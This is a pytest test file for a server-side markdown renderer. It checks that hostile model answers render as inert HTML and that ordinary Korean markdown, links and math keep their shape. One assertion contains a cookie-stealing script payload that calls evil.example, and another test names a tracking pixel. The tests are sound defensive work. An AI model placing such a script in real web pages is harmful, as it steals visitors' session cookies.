"""Model answers rendered as markdown on the server (core/markdown.py): hostile answers stay inert."""

from html.parser import HTMLParser

import pytest

from core import markdown
from tests.core.hostile_answers import FRIENDLY, HOSTILE, HUGE_TABLE_COLUMNS, HUGE_TABLE_ROWS

URL_ATTRIBUTES = {"href", "src", "action", "data", "formaction", "poster", "background", "srcset"}


class Inventory(HTMLParser):
    """Every element and attribute in rendered HTML, as a parser (not a regex) reads it."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text.append(data)


def assert_inert(html: str) -> Inventory:
    found = Inventory(html)
    for tag, attributes in found.elements:
        assert tag in markdown.TAGS, tag
        assert set(attributes) <= set(markdown.ATTRIBUTES.get(tag, ())) | {"target", "rel"}, (tag, attributes)
        assert not any(name.startswith("on") or name == "style" for name in attributes)
        for name in URL_ATTRIBUTES & set(attributes):
            assert attributes[name].startswith(("http://", "https://", "mailto:")), attributes
        if tag == "a" and "href" in attributes:
            assert attributes["rel"] == "noopener noreferrer nofollow" and attributes["target"] == "_blank"
    return found


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_answers_render_inert(name):
    html = str(markdown.render(HOSTILE[name]))
    found = assert_inert(html)
    tags = {tag for tag, _ in found.elements}
    assert not tags & {"script", "img", "iframe", "object", "style", "svg", "form", "input", "meta", "image"}


def test_a_script_is_shown_as_text_not_run():
    found = Inventory(str(markdown.render(HOSTILE["script"])))
    assert "<script>fetch('https://evil.example/x?c='+document.cookie)</script>" in "".join(found.text)


def test_javascript_and_data_links_lose_their_address_but_keep_their_words():
    for name in ("javascript_link", "entity_javascript", "reference_javascript", "data_link"):
        found = assert_inert(str(markdown.render(HOSTILE[name])))
        assert not any("href" in attributes for _, attributes in found.elements), name
    text = "".join(Inventory(str(markdown.render(HOSTILE["javascript_link"]))).text)
    assert "눌러 보세요" in text and "대문자" in text


def test_a_remote_image_is_never_loaded_its_alt_text_and_address_are_shown():
    html = str(markdown.render(HOSTILE["remote_image"]))
    assert "<img" not in html
    found = Inventory(html)
    text = "".join(found.text)
    assert "추적 픽셀" in text and "https://evil.example/pixel.png?who=citizen" in text
    assert ("span", {"class": "md-image"}) in found.elements
    # A data: image is not loaded either, and its address is cut short.
    data = "".join(Inventory(str(markdown.render(HOSTILE["data_image"]))).text)
    assert "data:image/png;base64," in data and len(data) < 200


def test_relative_links_and_images_go_nowhere():
    for name in ("relative_link", "relative_image"):
        found = assert_inert(str(markdown.render(HOSTILE[name])))
        assert not any(set(attributes) & {"href", "src"} for _, attributes in found.elements)


def test_a_huge_table_is_rendered_whole_inside_its_own_scrolling_box():
    html = str(markdown.render(HOSTILE["huge_table"]))
    found = assert_inert(html)
    assert html.startswith('<div class="md-table" tabindex="0"><table>')
    assert sum(1 for tag, _ in found.elements if tag == "tr") == HUGE_TABLE_ROWS + 1
    assert sum(1 for tag, _ in found.elements if tag == "td") == HUGE_TABLE_ROWS * HUGE_TABLE_COLUMNS
    # Right alignment survives as a class (the CSP refuses style attributes).
    assert ("td", {"class": "md-align-right"}) in found.elements


def test_friendly_markdown_keeps_its_shape():
    html = str(markdown.render(FRIENDLY["headings_and_lists"]))
    for fragment in (
        "<h2>요약</h2>",
        "<strong>참고:</strong>",
        "<ol>",
        "<blockquote>",
        "<hr>",
        "<s>취소</s>",
    ):
        assert fragment in html
    link = str(markdown.render(FRIENDLY["link"]))
    assert (
        '<a href="https://www.gov.kr" target="_blank" rel="noopener noreferrer nofollow">정부24</a>' in link
    )
    assert 'href="mailto:help@example.kr"' in link
    code = str(markdown.render(FRIENDLY["code"]))
    assert '<pre><code class="language-python">def f(x):' in code


def test_math_is_left_as_the_model_wrote_it():
    html = str(markdown.render(FRIENDLY["math"]))
    joined = "".join(Inventory(html).text)
    for source in (
        "$ax^2 + bx + c = 0$",
        "$$x = \\frac{-b \\pm \\sqrt{b^2-4ac}}{2a}$$",
        "\\(a_1 + b_1\\)",
        "\\[e^{i\\pi}\\]",
    ):
        assert source in joined
    assert "<em>" not in html  # a_1 ... b_1 is not read as emphasis
    assert "$5 와 $6" in joined  # money is not math


def test_the_rules_the_browser_gets_are_the_ones_the_server_applies():
    rules = markdown.rules()
    assert rules["tags"] == list(markdown.TAGS) and rules["rel"] == markdown.REL
    assert rules["schemes"] == ["http", "https", "mailto"]
    assert set(rules["attributes"]) == set(markdown.ATTRIBUTES)
